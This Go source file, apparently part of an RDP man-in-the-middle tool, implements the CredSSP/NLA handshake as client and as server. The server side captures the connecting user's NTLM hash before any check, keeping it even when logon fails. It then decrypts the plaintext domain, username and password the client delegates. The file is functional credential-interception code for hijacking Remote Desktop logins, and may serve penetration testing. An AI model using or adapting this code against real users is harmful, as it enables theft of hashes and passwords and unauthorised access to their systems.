package transport

import (
	"context"
	"crypto/rand"
	"crypto/tls"
	"fmt"
	"strings"

	"github.com/rcarmo/go-rdp-mitm/internal/auth"
)

const nonceLen = 32

// Credentials are the plaintext credentials CredSSP delegates to the target.
type Credentials struct {
	Domain   string
	Username string
	Password string
}

// NLAClient authenticates to the target with CredSSP over an established TLS
// connection and delegates creds.
func NLAClient(ctx context.Context, conn *tls.Conn, creds Credentials) error {
	defer bindDeadline(ctx, conn)()

	domain, user := auth.SplitUser(creds.Username, creds.Domain)
	ntlm := auth.NewClient(domain, user, creds.Password)

	pubKey, err := PeerPublicKey(conn)
	if err != nil {
		return err
	}

	nonce := make([]byte, nonceLen)
	if _, err := rand.Read(nonce); err != nil {
		return err
	}

	// Step 1: negotiate
	if err := WriteTSRequest(conn, &auth.TSRequest{NegoTokens: [][]byte{ntlm.Negotiate()}}); err != nil {
		return fmt.Errorf("%w: send negotiate: %w", ErrNegotiationFailed, err)
	}

	// Step 2: challenge
	resp, err := readAnswer(conn, "challenge")
	if err != nil {
		return err
	}
	if len(resp.NegoTokens) == 0 {
		return fmt.Errorf("%w: no challenge token received from server", ErrNegotiationFailed)
	}

	version := min(resp.Version, auth.CredSSPVersion)

	authMsg, session, err := ntlm.Authenticate(resp.NegoTokens[0])
	if err != nil {
		return fmt.Errorf("%w: %w", ErrNegotiationFailed, err)
	}

	// Step 3: authenticate with the sealed public key binding
	req := &auth.TSRequest{
		NegoTokens: [][]byte{authMsg},
		PubKeyAuth: session.GssEncrypt(auth.ComputeClientPubKeyAuth(version, pubKey, nonce)),
	}
	if version >= 5 {
		req.ClientNonce = nonce
	}
	if err := WriteTSRequest(conn, req); err != nil {
		return fmt.Errorf("%w: send authenticate: %w", ErrNegotiationFailed, err)
	}

	// Step 4: server public key proof
	resp, err = readAnswer(conn, "public key")
	if err != nil {
		return err
	}

	proof, err := session.GssDecrypt(resp.PubKeyAuth)
	if err != nil {
		return fmt.Errorf("%w: server public key: %w", ErrNegotiationFailed, err)
	}
	if !auth.VerifyServerPubKeyAuth(version, proof, pubKey, nonce) {
		return fmt.Errorf("%w: server public key binding mismatch", ErrNegotiationFailed)
	}

	// Step 5: credentials
	sealed := session.GssEncrypt(ntlm.Credentials().Serialize())
	if err := WriteTSRequest(conn, &auth.TSRequest{AuthInfo: sealed}); err != nil {
		return fmt.Errorf("%w: send credentials: %w", ErrNegotiationFailed, err)
	}

	return nil
}

func readAnswer(conn *tls.Conn, step string) (*auth.TSRequest, error) {
	resp, err := ReadTSRequest(conn)
	if err != nil {
		return nil, fmt.Errorf("%w: read %s: %w", ErrNegotiationFailed, step, err)
	}
	if resp.ErrorCode != 0 {
		return nil, fmt.Errorf("%w: %s: server error 0x%08X", ErrNegotiationFailed, step, resp.ErrorCode)
	}
	return resp, nil
}

// PasswordLookup returns the password the proxy accepts for a user.
type PasswordLookup func(domain, user string) (password string, ok bool)

// NLAServer terminates CredSSP from a client.
type NLAServer struct {
	Domain   string
	Computer string
	Lookup   PasswordLookup
}

// NLAResult is what a client revealed during CredSSP. Hash is set once the
// client sent its AUTHENTICATE message; Credentials only when the response
// verified.
type NLAResult struct {
	Hash        *auth.Capture
	Credentials *auth.TSCredentials
}

// Accept runs CredSSP in the server role over an established TLS connection.
// The result is returned together with any error so a captured hash survives a
// failed logon.
func (s *NLAServer) Accept(ctx context.Context, conn *tls.Conn, a *Adapter) (*NLAResult, error) {
	defer bindDeadline(ctx, conn)()

	result := &NLAResult{}

	pubKey, err := a.PublicKey()
	if err != nil {
		return result, err
	}

	ntlm := auth.NewServer(s.Domain, s.Computer)

	req, err := ReadTSRequest(conn)
	if err != nil {
		return result, fmt.Errorf("%w: read negotiate: %w", ErrNegotiationFailed, err)
	}
	if len(req.NegoTokens) == 0 {
		return result, fmt.Errorf("%w: no negotiate token", ErrNegotiationFailed)
	}

	version := min(max(req.Version, 2), auth.CredSSPVersion)

	challenge, err := ntlm.Challenge(req.NegoTokens[0])
	if err != nil {
		return result, fmt.Errorf("%w: %w", ErrNegotiationFailed, err)
	}
	if err := WriteTSRequest(conn, &auth.TSRequest{NegoTokens: [][]byte{challenge}}); err != nil {
		return result, fmt.Errorf("%w: send challenge: %w", ErrNegotiationFailed, err)
	}

	req, err = ReadTSRequest(conn)
	if err != nil {
		return result, fmt.Errorf("%w: read authenticate: %w", ErrNegotiationFailed, err)
	}
	if len(req.NegoTokens) == 0 {
		return result, fmt.Errorf("%w: no authenticate token", ErrNegotiationFailed)
	}

	msg, err := auth.ParseAuthenticateMessage(req.NegoTokens[0])
	if err != nil {
		return result, fmt.Errorf("%w: %w", ErrNegotiationFailed, err)
	}

	if result.Hash, err = ntlm.Capture(msg); err != nil {
		return result, fmt.Errorf("%w: %w", ErrNegotiationFailed, err)
	}

	var session *auth.Session
	if password, ok := s.lookup(msg.Domain, msg.User); ok {
		session, err = ntlm.Verify(msg, password)
	} else {
		err = auth.ErrLogonFailure
	}
	if err != nil {
		_ = WriteTSRequest(conn, &auth.TSRequest{ErrorCode: auth.StatusLogonFailure})
		return result, fmt.Errorf("%w: %w", ErrNegotiationFailed, err)
	}

	proof, err := session.GssDecrypt(req.PubKeyAuth)
	if err != nil || !auth.VerifyClientPubKeyAuth(version, proof, pubKey, req.ClientNonce) {
		return result, fmt.Errorf("%w: client public key binding mismatch", ErrNegotiationFailed)
	}

	answer := session.GssEncrypt(auth.ComputeServerPubKeyAuth(version, pubKey, req.ClientNonce))
	if err := WriteTSRequest(conn, &auth.TSRequest{PubKeyAuth: answer}); err != nil {
		return result, fmt.Errorf("%w: send public key: %w", ErrNegotiationFailed, err)
	}

	req, err = ReadTSRequest(conn)
	if err != nil {
		return result, fmt.Errorf("%w: read credentials: %w", ErrNegotiationFailed, err)
	}

	plain, err := session.GssDecrypt(req.AuthInfo)
	if err != nil {
		return result, fmt.Errorf("%w: credentials: %w", ErrNegotiationFailed, err)
	}

	if result.Credentials, err = auth.DecodeTSCredentials(plain); err != nil {
		return result, fmt.Errorf("%w: credentials: %w", ErrNegotiationFailed, err)
	}

	return result, nil
}

func (s *NLAServer) lookup(domain, user string) (string, bool) {
	if s.Lookup == nil {
		return "", false
	}
	return s.Lookup(domain, user)
}

// StaticPassword accepts one username with one password, in any domain.
func StaticPassword(username, password string) PasswordLookup {
	_, want := auth.SplitUser(username, "")
	return func(_, user string) (string, bool) {
		if want == "" || !strings.EqualFold(user, want) {
			return "", false
		}
		return password, true
	}
}
